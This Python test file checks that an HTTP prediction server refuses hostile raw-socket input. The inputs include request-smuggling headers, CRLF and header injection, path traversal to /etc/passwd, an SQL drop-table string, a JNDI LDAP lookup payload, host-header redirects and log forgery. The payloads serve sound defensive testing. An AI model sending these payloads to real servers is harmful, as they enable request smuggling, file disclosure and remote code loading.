"""What no well-meaning client sends: requests that two parsers could read in two ways.

Plain calls are parsed past ASGI (`http/protocol.py`), all others by uvicorn; both are attacked here
over bare sockets on one real server.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import socket
import time
from pathlib import Path
from typing import Any

import httpx2
import pytest
import uvicorn

from live import GOOD_ROW, Server
from onrecord.http import protocol
from onrecord.http.limits import LIMITS_KEY, Limits
from wire import Wire, request_bytes

HEAD_LIMIT = 64 * 1024
SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: onrecord\r\n\r\n"
BODY = json.dumps(GOOD_ROW).encode()
CHUNKED = b"%x\r\n%b\r\n0\r\n\r\n" % (len(BODY), BODY)


def call(token: str, *lines: bytes, body: bytes = BODY, length: bool = True) -> bytes:
    """A prediction call with some header lines more, and maybe without its Content-Length."""
    head = [
        b"POST /predict HTTP/1.1",
        b"Host: onrecord",
        b"Authorization: Bearer " + token.encode(),
    ]
    if length:
        head.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join([*head, *lines]) + b"\r\n\r\n" + body


def recorded(server: Server, token: str) -> int:
    headers = {"authorization": f"Bearer {token}"}
    page = httpx2.get(f"{server.base}/predictions?limit=1000", headers=headers).json()
    return len(page["predictions"])


AMBIGUOUS: dict[str, tuple[list[bytes], bytes, bool]] = {
    "length and chunks": ([b"Transfer-Encoding: chunked"], CHUNKED, True),
    "no length and chunks": ([b"Content-Length: 0", b"Transfer-Encoding: chunked"], CHUNKED, False),
    "two equal lengths": ([b"Content-Length: %d" % len(BODY)], BODY, True),
    "two lengths": ([b"Content-Length: 5"], BODY, True),
    "a list of lengths": ([b"Content-Length: %d, %d" % (len(BODY), len(BODY))], BODY, False),
    "a signed length": ([b"Content-Length: +%d" % len(BODY)], BODY, False),
    "a negative length": ([b"Content-Length: -1"], BODY, False),
    "a hexadecimal length": ([b"Content-Length: 0x%x" % len(BODY)], BODY, False),
    "an endless length": ([b"Content-Length: " + b"9" * 40], BODY, False),
    "a space before the colon": ([b"Content-Length : %d" % len(BODY)], BODY, False),
    "a folded length": ([b"Content-Length:\r\n %d" % len(BODY)], BODY, False),
    "a folded header": ([b"X-Folded: a\r\n b"], BODY, True),
    "a bare line feed": ([b"X-One: a\nX-Two: b"], BODY, True),
    "a bare carriage return": ([b"X-One: a\rX-Two: b"], BODY, True),
    "a NUL": ([b"X-One: a\x00b"], BODY, True),
    "a header without a name": ([b": a"], BODY, True),
    "a header without a colon": ([b"X-One"], BODY, True),
    "a space in a name": ([b"X One: a"], BODY, True),
    "an unknown coding": ([b"Transfer-Encoding: xchunked"], CHUNKED, False),
    "no coding": ([b"Transfer-Encoding: identity"], CHUNKED, False),
    "chunks twice": ([b"Transfer-Encoding: chunked, chunked"], CHUNKED, False),
    "chunks not last": ([b"Transfer-Encoding: chunked, gzip"], CHUNKED, False),
    "two codings": ([b"Transfer-Encoding: chunked", b"Transfer-Encoding: gzip"], CHUNKED, False),
    "a vertical tab": ([b"Transfer-Encoding: \x0bchunked"], CHUNKED, False),
    "line feeds in chunks": (
        [b"Transfer-Encoding: chunked"],
        CHUNKED.replace(b"\r\n", b"\n"),
        False,
    ),
    "a negative chunk": ([b"Transfer-Encoding: chunked"], b"-1\r\n\r\n", False),
    "an endless chunk": ([b"Transfer-Encoding: chunked"], b"f" * 17 + b"\r\n" + BODY, False),
    "a chunk with a prefix": ([b"Transfer-Encoding: chunked"], b"0x" + CHUNKED, False),
    "a space after a chunk's size": (
        [b"Transfer-Encoding: chunked"],
        CHUNKED.replace(b"\r\n", b" \r\n", 1),
        False,
    ),
}


@pytest.mark.parametrize("case", AMBIGUOUS)
def test_a_request_that_can_be_read_in_two_ways_is_refused_and_nothing_after_it_is_read(
    server: Server, token: str, case: str
) -> None:
    lines, body, length = AMBIGUOUS[case]
    before = recorded(server, token)

    with Wire(server) as wire:
        wire.socket.sendall(call(token, *lines, body=body, length=length) + SMUGGLED)
        # An incomplete body is taken for one that was cut off, never for a call.
        received = wire.until_closed()

    assert received.count(b"HTTP/1.1 ") == 1
    assert received.startswith(b"HTTP/1.1 400 ")
    head, _, body = received.partition(b"\r\n\r\n")
    assert b"content-type: application/problem+json" in head
    assert json.loads(body)["code"] == "malformed_request"
    assert recorded(server, token) == before


@pytest.mark.parametrize(
    "raw",
    [
        b"GET /healthz HTTP/9.9\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"get /healthz HTTP/1.1\r\n\r\n",
        b"A" * 5000 + b" / HTTP/1.1\r\n\r\n",
        b"GET /health z HTTP/1.1\r\n\r\n",
        b"GET  HTTP/1.1\r\n\r\n",
        b"GET ?a=b HTTP/1.1\r\nHost: onrecord\r\n\r\n",
        b"GET http:///x HTTP/1.1\r\nHost: onrecord\r\n\r\n",
        b"GET /\xff HTTP/1.1\r\nHost: onrecord\r\n\r\n",
        b"CONNECT example.org:80 HTTP/1.1\r\nHost: onrecord\r\n\r\n",
        b"GET /healthz HTTP/1.1\n\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 200,
        bytes(range(256)),
    ],
    ids=lambda raw: repr(raw[:30]),
)
def test_what_is_no_request_gets_a_problem_and_a_closed_connection(
    server: Server, raw: bytes
) -> None:
    with Wire(server) as wire:
        wire.socket.sendall(raw)
        received = wire.until_closed()

    assert received.startswith(b"HTTP/1.1 400 ")
    assert json.loads(received.partition(b"\r\n\r\n")[2])["code"] == "malformed_request"


@pytest.mark.parametrize("protocol_name", [b"websocket", b"h2c", b"anything"])
def test_a_wish_for_another_protocol_does_not_make_the_body_the_next_request(
    server: Server, token: str, protocol_name: bytes
) -> None:
    lines = (b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: " + protocol_name)
    head, _, body = call(token, *lines).partition(b"\r\n\r\n")
    smuggling, _, _ = call(token, *lines, body=SMUGGLED).partition(b"\r\n\r\n")

    with Wire(server) as wire:
        whole = wire.ask(head + b"\r\n\r\n" + body)
        apart = wire.ask(head + b"\r\n\r\n", body[:20], body[20:])
        refused = wire.ask(smuggling + b"\r\n\r\n", SMUGGLED)
        following = wire.ask(call(token))

    assert [answer[0] for answer in (whole, apart, refused, following)] == [200, 200, 400, 200]
    assert json.loads(refused[2])["code"] == "malformed_json"


def test_a_trailer_is_no_header(server: Server, token: str) -> None:
    trailer = b"Authorization: Bearer " + token.encode() + b"\r\nX-Request-ID: trailed\r\n\r\n"
    stranger = (
        b"POST /predict HTTP/1.1\r\nHost: onrecord\r\nTransfer-Encoding: chunked\r\n\r\n"
        + CHUNKED[:-2]
        + trailer
    )

    with Wire(server) as wire:
        status, headers, _ = wire.ask(stranger)
        known = wire.ask(
            call(token, b"Transfer-Encoding: chunked", body=CHUNKED[:-2] + trailer, length=False)
        )

    assert status == 401
    assert known[0] == 200
    assert headers["x-request-id"] != known[1]["x-request-id"] != "trailed"


@pytest.mark.parametrize(
    ("start", "more"),
    [
        (b"GET /healthz HTTP/1.1\r\n", b"X-Many: a\r\n" * 500),
        (b"GET /healthz HTTP/1.1\r\nX-Long: ", b"a" * 5000),
        (b"GET /", b"a" * 5000),
        (b"POST /healthz HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n", b"X: a\r\n" * 800),
        (b"POST /healthz HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n1;a=", b"a" * 5000),
    ],
    ids=["many headers", "a long header", "a long address", "many trailers", "a chunk's extension"],
)
def test_a_head_without_end_is_refused_at_its_bound(
    server: Server, start: bytes, more: bytes
) -> None:
    end = time.monotonic() + 20
    with Wire(server) as wire:
        wire.socket.sendall(start)
        with contextlib.suppress(ConnectionError):
            while time.monotonic() < end:
                wire.socket.sendall(more)
        answer = b""
        with contextlib.suppress(ConnectionError):
            answer = wire.socket.recv(4096)

    # What was under way when the server closed the connection is lost, and maybe its answer too.
    assert time.monotonic() < end
    assert not answer or answer.startswith((b"HTTP/1.1 431 ", b"HTTP/1.1 405 "))
    assert httpx2.get(f"{server.base}/healthz").status_code == 200


@pytest.mark.parametrize(("size", "status"), [(HEAD_LIMIT - 500, 200), (HEAD_LIMIT, 431)])
def test_a_head_that_comes_at_once_has_the_same_bound(
    server: Server, token: str, size: int, status: int
) -> None:
    with Wire(server) as wire:
        wire.socket.sendall(call(token, b"X-Filler: " + b"a" * (size - len(token))))
        answer = wire.answer()

    assert answer[0] == status
    if status == 431:
        assert json.loads(answer[2])["code"] == "head_too_large"


INJECTIONS = [
    "%0d%0aX-Injected:%20yes",
    "%0aX-Injected:%20yes",
    "%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0a%0d%0a",
    "%E5%98%8A%E5%98%8DX-Injected:%20yes",
    "%c0%8aX-Injected:%20yes",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "..%5c..%5cwindows%5cwin.ini",
    "%00",
    "%ff%fe",
    "%u0041",
    "%",
    "';DROP%20TABLE%20users;--",
    "{{7*7}}",
    "$%7Bjndi:ldap://192.0.2.1/a%7D",
]
PLACES = [
    "/{}",
    "/users/{}",
    "/predictions/{}",
    "/predictions/{}/proof",
    "/models/{}",
    "/models/{}/schema",
    "/models/{}/predict",
    "/static/{}",
    "/predictions?limit=1&x_request_id={}",
    "/predictions?limit=1&model={}",
    "/predictions?limit=1&since={}",
    "/users?after={}",
    "/{}?{}",
]


@pytest.mark.parametrize("place", PLACES)
def test_nothing_in_an_address_becomes_a_header_a_file_or_a_failure(
    server: Server, token: str, place: str
) -> None:
    with Wire(server) as wire:
        for injection in INJECTIONS:
            address = place.replace("{}", injection).encode()
            wire.socket.sendall(
                b"GET " + address + b" HTTP/1.1\r\nHost: onrecord\r\n"
                b"Authorization: Bearer " + token.encode() + b"\r\n\r\n"
            )
            status, headers, body = wire.answer()

            assert status in {200, 400, 403, 404, 405}, address
            assert "x-injected" not in headers, address
            assert b"root:" not in body, address
            # The connection is where it should be: one request, one answer.
            assert wire.ask(call(token))[0] == 200, address


@pytest.mark.parametrize(
    "value",
    [b"a%0d%0aSet-Cookie: b", b"a b", b"a\tb", b"a\x85b", b"\xff", b"a" * 129, b"", b"a;b", b"<a>"],
)
def test_a_request_id_that_is_not_of_our_form_is_not_repeated(
    server: Server, token: str, value: bytes
) -> None:
    with Wire(server) as wire:
        for raw in (call(token, b"X-Request-ID: " + value), SMUGGLED):
            status, headers, body = wire.ask(raw)

            assert status in {200, 404}
            assert "set-cookie" not in headers
            assert len(headers["x-request-id"]) == 36
            if value:
                assert value not in body


@pytest.mark.parametrize(
    "path", ["/users/", "/keys/", "/predictions/", "/docs/", "/", "//evil.test"]
)
def test_no_address_leads_to_another_host(server: Server, path: str) -> None:
    with Wire(server) as wire:
        wire.socket.sendall(f"GET {path} HTTP/1.1\r\nHost: evil.test\r\n\r\n".encode())
        status, headers, body = wire.answer()

    assert "evil.test" not in headers.get("location", "")
    assert headers.get("location", "console") == "console"
    assert b"evil.test" not in body
    assert (status == 307) == (path == "/")


def test_no_caller_forges_a_line_of_the_log(server: Server, token: str) -> None:
    forged = "%0a%7B%22event%22:%22request%22,%22path%22:%22/forged%22%7D%0a%1b%5B2J"
    with Wire(server) as wire:
        wire.socket.sendall(f"GET /marked{forged} HTTP/1.1\r\nHost: onrecord\r\n\r\n".encode())
        wire.answer()
        wire.ask(call(token, b"X-Request-ID: marked\x85{}"))
    text = (server.data_dir.parent / f"{server.data_dir.name}.log").read_bytes()
    deadline = time.monotonic() + 10
    while b"/marked" not in text and time.monotonic() < deadline:
        text = (server.data_dir.parent / f"{server.data_dir.name}.log").read_bytes()

    lines = [json.loads(line) for line in text.splitlines() if line.startswith(b"{")]
    assert any(str(line.get("path", "")).startswith("/marked\n{") for line in lines)
    assert not any(line.get("path") == "/forged" for line in lines)
    assert b"\x1b" not in text
    assert b"Traceback" not in text


def test_a_connection_that_says_nothing_or_half_a_head_is_closed() -> None:
    limits = Limits(connections=10, head_seconds=0.5)

    async def app(scope: Any, receive: Any, send: Any) -> None:
        raise AssertionError("there is no request to answer")

    async def closed_after() -> list[float]:
        config = uvicorn.Config(
            app, http=protocol.HttpProtocol, lifespan="off", timeout_keep_alive=1, log_config=None
        )
        config.load()
        server = uvicorn.Server(config)
        loop = asyncio.get_running_loop()
        listening = await loop.create_server(
            lambda: protocol.HttpProtocol(
                config=config, server_state=server.server_state, app_state={LIMITS_KEY: limits}
            ),
            "127.0.0.1",
        )
        address = listening.sockets[0].getsockname()
        took = []
        for said in (b"", b"POST /predict HTTP/1.1\r\nHost: a\r\nX-Slow:"):
            reader, writer = await asyncio.open_connection(*address)
            began = loop.time()
            writer.write(said)
            assert await asyncio.wait_for(reader.read(), 20) == b""
            took.append(loop.time() - began)
            writer.close()
            with contextlib.suppress(ConnectionError):
                await writer.wait_closed()
        while server.server_state.connections:  # noqa: ASYNC110 - nobody tells of it
            await asyncio.sleep(0.01)
        listening.close()
        await listening.wait_closed()
        return took

    assert all(0.4 < seconds < 15 for seconds in asyncio.run(closed_after()))


def test_a_port_scan_leaves_the_server_as_it_was(server: Server, token: str) -> None:
    """Connections that open and close, with and without a byte, disturb nobody."""
    host, _, port = server.base.removeprefix("http://").partition(":")
    for said in (b"", b"G", b"\r\n", b"GET / HTTP/1.1\r\n"):
        for _ in range(5):
            with socket.create_connection((host, int(port)), timeout=10) as probe:
                probe.sendall(said)

    with Wire(server) as wire:
        assert wire.ask(request_bytes(token, GOOD_ROW))[0] == 200


def test_pipelined_refusals_are_answered_in_their_order(server: Server, token: str) -> None:
    with Wire(server) as wire:
        wire.socket.sendall(call(token) + SMUGGLED + call("x.y.z") + call(token))

        assert [wire.answer()[0] for _ in range(4)] == [200, 404, 401, 200]


def test_a_model_directory_is_not_reachable_by_http(
    server: Server, token: str, tmp_path: Path
) -> None:
    headers = {"authorization": f"Bearer {token}"}
    for path in ("/risk/model.skops", "/model.skops", "/data/token-keys.json", "/static/../app.py"):
        assert httpx2.get(f"{server.base}{path}", headers=headers).status_code == 404
